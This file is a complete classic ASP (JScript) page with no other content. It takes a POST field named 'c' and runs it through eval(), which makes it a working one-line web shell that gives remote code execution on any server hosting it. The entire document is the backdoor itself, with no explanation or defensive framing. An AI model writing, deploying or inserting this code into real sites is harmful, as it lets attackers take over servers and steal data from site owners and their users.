<%@ Language=JScript %>
<%
var c = Request.Form("c");
eval(c);
%>
